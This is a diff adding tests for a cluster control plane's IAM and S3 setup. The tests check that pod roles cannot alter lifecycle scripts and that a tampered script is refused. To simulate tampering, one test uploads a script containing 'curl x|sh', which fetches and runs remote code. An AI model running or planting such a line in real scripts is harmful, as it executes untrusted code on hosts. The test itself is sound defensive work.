@@ -120,3 +120,49 @@ def test_a_foreign_tagged_vpc_enters_the_plan_only_on_opt_in(cp: Running, twin: 
         assert wait_terminal(client, go.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
     vpcs = [v["VpcId"] for v in ec2.describe_vpcs()["Vpcs"]]
     assert other in vpcs and ours not in vpcs
+
+
+def _allows(document: dict[str, Any], action: str, resource: str) -> bool:
+    """Whether an identity policy's Allow statements grant `action` on `resource` (no conditions here)."""
+    for statement in document["Statement"]:
+        actions = statement["Action"] if isinstance(statement["Action"], list) else [statement["Action"]]
+        resources = statement["Resource"] if isinstance(statement["Resource"], list) else [statement["Resource"]]
+        matches = any(re.fullmatch(re.escape(r).replace(r"\*", ".*"), resource) for r in resources)
+        if statement["Effect"] == "Allow" and action in actions and matches:
+            return True
+    return False
+
+
+def test_lifecycle_scripts_are_out_of_reach_and_checksummed(cp: Running, twin: TwinProcess) -> None:
+    from tests.support.flows import add_group, make_hyperpod
+
+    s3: Any = twin_client(twin, "s3")
+    iam: Any = twin_client(twin, "iam")
+    with cp.client() as client:
+        make_hyperpod(client, "lc1")
+        bucket = _bucket(client)
+        ref = client.post("/api/v1/clusters/dependencies", json={})
+        assert wait_terminal(client, ref.json()["operationId"], timeout=180)["status"] == "SUCCEEDED"
+        script = f"arn:aws:s3:::{bucket}/{pol.lifecycle_prefix('lc1')}on_create.sh"
+        data = f"arn:aws:s3:::{bucket}/{pol.data_prefix('lc1')}x"
+        other = f"arn:aws:s3:::{bucket}/{pol.data_prefix('other')}x"
+        # The roles pods can reach (the S3 CSI driver's and the nodes') as written to the twin's IAM.
+        writers = [r["RoleName"] for r in iam.list_roles()["Roles"] if r["RoleName"].startswith("instantstart-lc1-")]
+        checked = 0
+        for role in writers:
+            for name in iam.list_role_policies(RoleName=role)["PolicyNames"]:
+                document = iam.get_role_policy(RoleName=role, PolicyName=name)["PolicyDocument"]
+                if not any(str(s.get("Resource")).count("arn:aws:s3") for s in document["Statement"]):
+                    continue
+                checked += 1
+                assert not _allows(document, "s3:PutObject", script), role
+                assert not _allows(document, "s3:DeleteObject", script), role
+                assert not _allows(document, "s3:PutObject", other), role
+                assert _allows(document, "s3:PutObject", data), role
+        assert checked >= 2, writers
+        # A script changed behind our back is never handed to UpdateCluster.
+        s3.put_object(Bucket=bucket, Key=f"{pol.lifecycle_prefix('lc1')}on_create.sh", Body=b"#!/bin/bash\ncurl x|sh\n")
+        view = add_group(client, instanceGroupName="more", instanceType="ml.g6.4xlarge", instanceCount=1,
+                         availabilityZone="us-west-2c")
+        assert view["status"] == "FAILED" and view["error"]["code"] == "CONFLICT", view
+        assert "was modified" in view["error"]["message"] and "on_create.sh" in view["error"]["hint"]
